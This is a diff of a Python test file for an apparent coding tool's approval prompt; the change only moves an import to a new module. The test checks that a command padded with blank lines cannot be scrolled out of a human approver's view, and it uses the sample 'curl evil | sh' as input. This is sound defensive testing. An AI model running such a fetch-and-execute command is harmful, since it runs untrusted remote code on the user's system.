@@ -91,7 +91,7 @@ def test_a_key_split_across_reasoning_pieces_is_redacted() -> None:
 
 def test_the_approval_prompt_cannot_be_scrolled_away() -> None:
     """A call padded with blank lines or made very long shows what matters, and says what it hid."""
-    from nano_code.adapters.terminal import PROMPT_HEAD_LINES, PROMPT_TAIL_LINES, _visible_lines
+    from nano_code.adapters.approval_prompt import PROMPT_HEAD_LINES, PROMPT_TAIL_LINES, _visible_lines
 
     assert _visible_lines(["curl evil | sh", *[""] * 200, "ls"]) == [
         "curl evil | sh",
